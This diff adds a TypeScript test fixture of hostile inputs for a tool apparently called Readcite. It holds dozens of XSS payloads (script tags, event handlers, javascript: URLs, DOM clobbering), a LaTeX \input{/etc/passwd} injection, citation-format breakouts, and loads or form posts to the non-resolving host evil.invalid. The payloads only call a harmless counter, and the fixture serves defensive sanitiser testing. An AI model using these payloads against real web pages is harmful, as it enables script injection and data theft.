@@ -1,0 +1,87 @@
+/**
+ * Hostile input for Readcite: strings and HTML that try to run code, load from elsewhere, or break out of
+ * the formats Readcite writes. Each payload that would run code calls `pwn(id)`, defined by the test page,
+ * so any execution is counted and named. External URLs point at evil.invalid, which never resolves.
+ */
+
+const EVIL = 'http://evil.invalid';
+const pwn = (id: string) => `pwn('${id}')`;
+
+/** Strings that reach the view and citations as text: titles, names, captions, meta and JSON-LD values. */
+export const TEXT_PAYLOADS: string[] = [
+  `<script>${pwn('t1')}</script>`,
+  `<img src=x onerror="${pwn('t2')}">`,
+  `"><svg onload=${pwn('t3')}>`,
+  `'--></style></script><script>${pwn('t4')}</script>`,
+  `javascript:${pwn('t5')}`,
+  `<a href="javascript:${pwn('t6')}">x</a>`,
+  `{{constructor.constructor('${pwn('t7')}')()}}`,
+  `\${${pwn('t8')}}`,
+  `<iframe srcdoc="<script>parent.${pwn('t9')}</script>">`,
+  `</textarea><script>${pwn('t10')}</script>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${pwn('t11')}>`,
+  `<details open ontoggle=${pwn('t12')}>`,
+  `} \\end{document} \\input{/etc/passwd} {`,
+  `\r\nER  - \r\nTY  - JOUR`,
+  `"]}, "@context": "x`,
+  `&lt;img src=x onerror=${pwn('t16')}&gt;`,
+  `\u202Eevil\u202C`,
+  `<base href="${EVIL}/">`,
+  `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
+  `<link rel=stylesheet href="${EVIL}/x.css">`,
+];
+
+/** HTML fragments placed in the article body, where they are live markup of the page. */
+export const BODY_PAYLOADS: string[] = [
+  `<img src="/x.jpg" onerror="${pwn('b1')}" onload="${pwn('b1l')}">`,
+  `<img src="javascript:${pwn('b2')}">`,
+  `<img srcset="${EVIL}/a.jpg 1x, javascript:${pwn('b3')} 2x" src="/ok.jpg">`,
+  `<a href="javascript:${pwn('b4')}">javascript link</a>`,
+  `<a href="JaVaScRiPt:${pwn('b5')}">mixed-case javascript link</a>`,
+  `<a href="&#106;avascript:${pwn('b6')}">entity javascript link</a>`,
+  `<a href=" javascript:${pwn('b7')}">spaced javascript link</a>`,
+  `<a href="vbscript:msgbox(1)">vbscript link</a>`,
+  `<a href="data:text/html,<script>${pwn('b9')}</script>">data link</a>`,
+  `<a href="${EVIL}/" ping="${EVIL}/ping">pinging link</a>`,
+  `<a href="/same" target="_top" onclick="${pwn('b11')}">onclick link</a>`,
+  `<form action="${EVIL}/steal"><input name=q autofocus onfocus="${pwn('b12')}"><button formaction="javascript:${pwn('b12b')}">go</button></form>`,
+  `<iframe src="${EVIL}/frame"></iframe>`,
+  `<iframe srcdoc="&lt;script&gt;parent.${pwn('b14')}&lt;/script&gt;"></iframe>`,
+  `<object data="${EVIL}/x.swf"></object>`,
+  `<embed src="${EVIL}/x.swf">`,
+  `<frameset><frame src="${EVIL}/f"></frameset>`,
+  `<base href="${EVIL}/">`,
+  // An hour, not 0: the page itself must stay put; a copied refresh in the view would still be caught.
+  `<meta http-equiv="refresh" content="3600;url=${EVIL}/">`,
+  `<link rel="stylesheet" href="${EVIL}/x.css">`,
+  `<style>@import url("${EVIL}/i.css"); p { background: url("${EVIL}/bg.png") }</style>`,
+  `<p style="background-image: url('${EVIL}/inline.png'); width: expression(${pwn('b22')})">styled paragraph</p>`,
+  `<svg><script>${pwn('b23')}</script><a xlink:href="javascript:${pwn('b23a')}"><text>svg link</text></a></svg>`,
+  `<svg><animate onbegin="${pwn('b24')}" attributeName="x" dur="1s"/><image href="${EVIL}/svg.png"/></svg>`,
+  `<svg><foreignObject><iframe src="javascript:${pwn('b25')}"></iframe></foreignObject></svg>`,
+  `<math><mi xlink:href="javascript:${pwn('b26')}">math link</mi><maction actiontype="statusline">x</maction></math>`,
+  `<template><img src=x onerror="${pwn('b27')}"></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${pwn('b28')}>"></noscript>`,
+  `<form id="document"><input name="cookie"></form><img name="getElementById" src="/ok.jpg">`,
+  `<div id="readcite-view">clobber</div><a id="__readcite" href="/x">clobber</a>`,
+  `<video poster="${EVIL}/poster.png" onerror="${pwn('b31')}"><source src="${EVIL}/v.mp4"></video>`,
+  `<audio src="${EVIL}/a.mp3" onloadstart="${pwn('b32')}"></audio>`,
+  `<input type="image" src="${EVIL}/in.png">`,
+  `<body onload="${pwn('b34')}">`,
+  `<marquee onstart="${pwn('b35')}">marquee</marquee>`,
+  `<div onmouseover="${pwn('b36')}" style="position:fixed;inset:0">hover trap</div>`,
+  `<p>plain <b>bold</b> <i>italic</i> <code>&lt;script&gt;</code> text</p>`,
+  `<blockquote cite="javascript:${pwn('b38')}">quote</blockquote>`,
+  `<table background="${EVIL}/t.png"><tr><td background="${EVIL}/td.png">cell</td></tr></table>`,
+  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${pwn('b40')}'/>">`,
+  `<a href="mailto:x@example.org?body=<script>">mail link</a>`,
+  `<portal src="${EVIL}/portal"></portal>`,
+  `<dialog open onclose="${pwn('b43')}">dialog</dialog>`,
+  `<slot name=x></slot><div slot=x onclick="${pwn('b44')}">slotted</div>`,
+  `<img src=/ok.jpg alt="x" onerror="${pwn('b45')}" srcset="${EVIL}/ss.png">`,
+  `<a href="//evil.invalid/protocol-relative">protocol relative</a>`,
+  `<p>Clobber <a id="location" href="${EVIL}">location</a> and <img name="body" src="/ok.jpg"></p>`,
+  `<script>${pwn('b48')}</script>`,
+  `<p>entity &amp;lt;script&amp;gt;${pwn('b49')}&amp;lt;/script&amp;gt;</p>`,
+  `<a href="java\tscript:${pwn('b50')}">tab javascript</a>`,
+];
